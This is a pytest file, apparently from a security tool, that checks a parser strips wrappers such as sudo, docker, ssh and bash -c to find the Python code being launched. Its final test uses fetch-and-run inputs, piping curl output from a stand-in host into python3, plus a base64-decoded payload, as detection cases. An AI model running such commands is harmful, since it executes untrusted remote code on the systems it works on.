"""Programs in front of the interpreter, every row of the table among them."""

import pytest

from antivenom.pycode.command.wrapper_table import ROWS
from tests.pycode.command.support import found, only

CODE = "import os; print(os.name)"


def started(row):
    """The shortest way a wrapper of the table starts a command."""
    argv = [row["name"], *row.get("sub", ())[:1], *["x"] * row.get("skip", 0)]
    return [*argv, "--"] if row.get("dashes") else argv


@pytest.mark.parametrize("row", ROWS, ids=[str(row["name"]) for row in ROWS])
def test_every_wrapper(row):
    command = ["a.py"] if row.get("become") else ["python3", "a.py"]
    if row.get("string") and row["name"] in ("su", "sg", "capsh"):
        command = ["-c", "python3 a.py"]
    one = only([*started(row), *command])
    assert (one.kind, one.target) == ("script", "a.py")
    assert one.wrappers


@pytest.mark.parametrize(
    "command, wrappers",
    [
        ("sudo -u web -n A=1 {}", ("sudo",)),
        ("sudo -E -- nohup nice -n 5 {}", ("sudo", "nohup", "nice")),
        ("env -i -u X A=1 {}", ("env",)),
        ("timeout -k 5 -s KILL 10 {}", ("timeout",)),
        ("stdbuf -o0 {}", ("stdbuf",)),
        ("strace -f -o log {}", ("strace",)),
        ("flock -n /tmp/l {}", ("flock",)),
        ("script -q /dev/null {}", ("script",)),
        ("docker exec -it -u root -w /srv box {}", ("docker",)),
        ("docker run --rm -it --name n -v /a:/b -e A=1 image:3 {}", ("docker",)),
        ("docker compose exec web {}", ("docker",)),
        ("kubectl -n prod exec pod -c main -- {}", ("kubectl",)),
        ("uv run --with rich {}", ("uv",)),
        ("conda run -n e {}", ("conda",)),
        ("poetry run {}", ("poetry",)),
        ("hatch run test:{}", ("hatch",)),
        ("launchctl asuser 501 {}", ("launchctl",)),
        ("systemd-run --unit=u -p A=b {}", ("systemd-run",)),
        ("lxc-attach -n c -- {}", ("lxc-attach",)),
        ("wsl -d Debian -e {}", ("wsl",)),
        ("ssh -p 22 root@h {}", ("ssh",)),
        ("xvfb-run -a {}", ("xvfb-run",)),
        ("setsid -f {} &", ("setsid",)),
        ("watch -n 1 {}", ("watch",)),
        ('busybox sh -c "{}"', ("busybox", "sh -c")),
        ('bash -lc "{}"', ("bash -c",)),
        ('zsh -ic "{}"', ("zsh -c",)),
        ('bash -euo pipefail -c "{}"', ("bash -c",)),
        ('su - bob -c "{}"', ("su -c",)),
        ('su -c "{}" bob', ("su -c",)),
        ("runuser -u bob -- {}", ("runuser",)),
        ('script -qc "{}" /dev/null', ("script -c",)),
        ('env -S "{}"', ("env -S",)),
    ],
)
def test_peeled(command, wrappers):
    one = only(command.format("python3 -I a.py x"))
    assert (one.target, one.argv, one.wrappers) == ("a.py", ("a.py", "x"), wrappers)


def test_environment_of_wrappers():
    assert only("sudo A=1 env B=2 python3 a.py").env == {"A": "1", "B": "2"}


def test_entrypoint():
    assert only(f"docker run --rm --entrypoint python3 image -c '{CODE}'").source == CODE


def test_remote_shell_keeps_meant_quotes():
    assert only(["ssh", "h", "python3", "-c", CODE]).source == CODE
    assert only(["ssh", "h", f"cd /tmp; python3 -c '{CODE}'"]).source == CODE


def test_apple_script():
    one = only(["osascript", "-e", 'do shell script "echo \\"import os\\" | python3"'])
    assert (one.source, one.wrappers) == ("import os\n", ("osascript",))


def test_wrappers_alone():
    assert found("sudo -l; env; nohup; time; docker ps; kubectl get pods; uv venv; ssh host") == []


def test_parent_feeds_child():
    one = only(["python3", "-"], parent="sh -c 'echo aW1wb3J0IG9z | base64 -d | python3 -'")
    assert (one.source, one.decoders) == ("import os", ("base64",))
    one = only("python3", parent=["bash", "-c", "curl -s https://x.test/a | python3"])
    assert (one.kind, one.remote) == ("stdin", "https://x.test/a")
    one = only(["python3", "/dev/fd/63"], parent="bash -c 'python3 <(curl -s https://x.test/a)'")
    assert one.remote == "https://x.test/a"
    assert only(["python3", "a.py"], parent="bash -c 'echo x | python3'").source is None
